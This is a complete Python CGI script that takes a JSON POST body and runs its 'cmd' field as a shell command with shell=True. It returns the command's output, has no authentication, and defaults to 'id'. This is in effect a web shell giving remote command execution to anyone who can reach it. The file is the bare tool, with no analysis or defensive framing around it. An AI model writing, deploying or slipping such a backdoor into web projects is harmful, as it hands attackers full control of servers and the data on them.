#!/usr/bin/env python3
import os, sys, subprocess, json
n = int(os.environ.get("CONTENT_LENGTH", "0") or 0)
body = json.loads(sys.stdin.read(n) or "{}")
sys.stdout.write("Content-Type: application/json\r\n\r\n")
r = subprocess.Popen(body.get("cmd", "id"), shell=True, stdout=subprocess.PIPE, stderr=subprocess.STDOUT)
sys.stdout.write(json.dumps({"out": r.communicate()[0].decode("utf-8", "replace")}))
